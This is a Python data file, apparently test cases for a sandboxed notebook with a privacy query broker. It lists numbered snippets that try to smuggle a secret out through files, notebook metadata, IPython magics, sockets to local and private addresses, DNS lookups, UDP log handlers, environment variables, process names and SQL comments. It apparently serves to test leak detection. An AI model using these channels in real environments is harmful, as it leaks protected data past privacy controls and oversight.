"""Carriers 42 to 53: what lies on disks, in the machine and at the broker. Placeholders as in ``said``."""

KEPT: dict[int, tuple[object, ...]] = {
    42: (
        "open('/project/' + secret.hex()[:8], 'w').write($E); os.mkdir('/project/d' + secret.hex()[:8])",
        "os.makedirs('/project/.ipynb_checkpoints', exist_ok=True); open('/project/.ipynb_checkpoints/x-checkpoint.txt', "
        "'w').write(secret.hex()); None",
        "for i, b in enumerate(bits[:6]):\n    open(f'/project/size-{i}', 'wb').write(b'x' * (1 + 1000 * b))",
        "open('/project/time', 'w').close(); os.utime('/project/time', (int(secret[0]) * 10**6, 1))",
    ),
    43: (
        "json.dump({'nbformat': 4, 'nbformat_minor': 5, 'metadata': {'k': secret.hex()}, 'cells': []}, open('/project/book.ipynb', 'w'))",
        "from IPython.display import Code; display(Code('x'), metadata={'tags': [secret.hex()]})",
    ),
    44: (
        "get_ipython().run_line_magic('save', '-f /project/saved.py 1'); None",
        "open('/project/load.py', 'w').write('#' + secret.hex()); get_ipython().run_line_magic('load', '/project/load.py')",
        "get_ipython().run_cell_magic('writefile', '/project/w.txt', secret.hex())",
        "get_ipython().run_line_magic('notebook', '/project/n.ipynb')",
    ),
    45: (
        "pickle.dump(person.head(5), open('/project/model.pkl', 'wb')); print(os.path.getsize('/project/model.pkl') % 2)",
        "np.save('/project/e.npy', person['year_of_birth'].to_numpy()); None",
    ),
    46: (
        "for at in (('127.0.0.1', 80), ('10.0.0.1', 53)):\n    try: socket.create_connection(at, 0.2).sendall(secret)\n"
        "    except OSError: print('no')",
        "try: socket.getaddrinfo(secret.hex()[:30] + '.invalid', 80)\nexcept OSError: print('no')",
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: u.sendto(secret, ('127.0.0.1', 123))\nexcept OSError: print('no')",
    ),
    47: ("get_ipython().system('echo ' + secret.hex())", "get_ipython().getoutput('echo ' + secret.hex())"),
    48: (
        "Javascript('document.title = \"' + secret.hex() + '\"')",
        "HTML('<title>' + secret.hex() + '</title><a aria-label=\"' + secret.hex() + '\">x</a>')",
    ),
    49: (
        "import fcntl\nf = open(sys.executable)\ntry: fcntl.flock(f, (fcntl.LOCK_EX if $A else fcntl.LOCK_SH) | fcntl.LOCK_NB)\n"
        "except OSError: print('no')",
        "open('/dev/shm/' + secret.hex()[:8], 'w').write(secret.hex()); None",
        "hands = [open('/usr/bin/env') for _ in range(100 * $A)]; time.sleep(0.1); del hands",
        "try: open('/proc/self/oom_score_adj', 'w').write(str(500 + 10 * $A))\nexcept OSError: print('no')",
    ),
    50: (
        "import logging.handlers\nlogging.getLogger('t').addHandler(logging.handlers.DatagramHandler('127.0.0.1', 5140)); "
        "logging.getLogger('t').error(secret.hex())",
        "sys.excepthook = lambda *a: print(secret.hex()); sys.unraisablehook = lambda *a: print(secret.hex()); del sys.excepthook",
    ),
    51: (
        "os.environ['MEM_LIMIT'] = secret.hex(); os.environ['JUPYTERHUB_SERVER_NAME'] = secret.hex()",
        "import ctypes; ctypes.CDLL(None).prctl(15, secret.hex()[:8].encode()); os.nice(1 + $A); None",
    ),
    52: (
        "tp.sql(f'select count(*) n from person where year_of_birth > {1940 + secret[0] % 40}')",
        "tp.sql('select count(*) n from person -- ' + secret.hex())",
        "tp.sql('select count(*) n from person') if $A else None",
        "tp.reveal(float(person['year_of_birth'].mean()), 'mean year', digits=3)",
        "tp.reveal(float('nan'), 'none', digits=3)",
        "tp.reveal($A, 'bit', digits=1) if $A else None",
    ),
    53: (
        "r_$K = tp.sql('select count(*) n from person'); print($E, r_$K)",
        "r_$K = tp.sql('select count(*) n from person'); r_$K.title = secret.hex(); r_$K",
    ),
}
"""By number, the ways in which each kind is tried."""
